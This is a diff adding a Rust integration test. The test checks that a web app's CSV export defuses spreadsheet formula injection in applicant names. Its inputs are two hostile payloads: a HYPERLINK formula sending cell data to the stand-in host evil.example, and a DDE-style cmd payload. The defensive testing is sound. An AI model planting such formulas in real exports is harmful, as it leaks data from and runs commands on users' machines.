@@ -889,3 +889,37 @@ async fn mine_lists_the_nearest_fifty_awaiting_cases_and_links_to_the_rest() {
     assert_eq!(all.status, reqwest::StatusCode::OK);
     assert!(all.count("tbody tr") >= 50);
 }
+
+// ASVS 5.0 V1.2.10 (protection against CSV and formula injection): a name typed as a
+// formula reaches the CSV export as text, with a leading quote.
+#[tokio::test]
+async fn a_formula_in_a_name_is_defused_in_the_csv_export() {
+    let app = TestApp::spawn().await;
+    let mut c = app.login("levanger.saksbehandler").await;
+    let evil = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Klikk\")";
+    register(&mut c, evil, &fnr("121290", 8)).await;
+    register(&mut c, "@SUM(1+1)*cmd|' /C calc'!A0", &fnr("121290", 9)).await;
+    let res = c
+        .http
+        .get(format!("{}/soknader/eksport.csv", c.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::OK);
+    let body = res.text().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        cells.extend(record.unwrap().iter().map(str::to_owned));
+    }
+    assert!(cells.contains(&format!("'{evil}")), "{body}");
+    assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a live formula in the export: {cell:?}"
+        );
+    }
+}
